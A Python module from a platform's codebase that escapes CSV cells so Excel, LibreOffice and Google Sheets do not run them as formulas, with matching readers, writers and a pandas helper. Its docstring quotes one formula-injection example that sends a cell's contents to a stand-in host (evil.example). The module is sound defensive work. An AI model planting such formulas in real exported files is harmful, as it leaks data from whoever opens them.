"""Spreadsheet-safe CSV: every CSV the platform writes goes through here, and every reader too.

Participants, writers and imported files bring free text, and a CSV cell that begins with
`=`, `+`, `-`, `@`, a tab or a carriage return is run as a formula by Excel, LibreOffice and
Google Sheets (`=HYPERLINK("http://evil.example/?leak="&A1, ...)`). OWASP's advice is to
prefix such cells with a single quote, which spreadsheets show as text.

The rule, exactly (one home for it, shared by `anonymize`, `attacks` and `intruder`, which is
why it is a top-level package that imports none of them; `docs/operations.md` repeats it):

- escape: a text cell matching `'*[=+\\-@\\t\\r]` at its start (any number of single quotes,
  then a trigger character) gets one more `'` in front. Quotes before a trigger are counted
  so that the mapping can be undone without guessing.
- unescape: a cell matching the same pattern with at least one leading quote loses one.

`unescape(escape(x)) == x` for every string. A cell that begins with a quote followed by
anything else ("'Tis") is never touched either way. Numbers, booleans and empty cells are
written as they are (a negative number stays a number); only strings are escaped.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from typing import Any

FORMULA_START = re.compile(r"'*[=+\-@\t\r]")


def spreadsheet_escape(value: Any) -> Any:
    """Return a CSV cell value that no spreadsheet runs as a formula."""
    if isinstance(value, str) and FORMULA_START.match(value):
        return "'" + value
    return value


def spreadsheet_unescape(value: Any) -> Any:
    """Undo `spreadsheet_escape` (a cell read back from an exported CSV)."""
    if isinstance(value, str) and value.startswith("'") and FORMULA_START.match(value):
        return value[1:]
    return value


class SafeWriter:
    """`csv.writer` whose string cells are escaped."""

    def __init__(self, sink: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(sink, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([spreadsheet_escape(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter(csv.DictWriter):
    """`csv.DictWriter` whose string cells (header included) are escaped."""

    def writeheader(self) -> Any:
        return self.writer.writerow([spreadsheet_escape(f) for f in self.fieldnames])

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({k: spreadsheet_escape(v) for k, v in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for row in rowdicts:
            self.writerow(row)


class _UnescapedRows:
    """A `csv.reader` whose cells come back unescaped (keeps `line_num` for error messages)."""

    def __init__(self, reader: Any) -> None:
        self._reader = reader

    def __iter__(self) -> _UnescapedRows:
        return self

    def __next__(self) -> list[Any]:
        return [spreadsheet_unescape(cell) for cell in next(self._reader)]

    @property
    def line_num(self) -> int:
        return self._reader.line_num


def frame_csv(frame: Any) -> str:
    """Return a pandas DataFrame as CSV text with its string cells and column names escaped.

    Numbers keep pandas' formatting; only text (object and string columns) can hold a formula.
    """
    safe = frame.rename(columns=spreadsheet_escape)
    for column in safe.select_dtypes(include=["object", "string"]).columns:
        safe[column] = safe[column].map(spreadsheet_escape)
    return safe.to_csv(index=False)


# The csv module refuses fields over 131,072 characters by default; one long Wikipedia
# article (a background document) is more. Uploads are bounded by size before they are read.
FIELD_SIZE_LIMIT = 64 * 1024 * 1024


class SafeDictReader(csv.DictReader):
    """`csv.DictReader` that undoes the escaping in every cell and column name."""

    def __init__(self, f: Any, *args: Any, **kwargs: Any) -> None:
        if csv.field_size_limit() < FIELD_SIZE_LIMIT:
            csv.field_size_limit(FIELD_SIZE_LIMIT)  # process-wide, and only ever raised
        super().__init__(f, *args, **kwargs)
        self.reader = _UnescapedRows(self.reader)
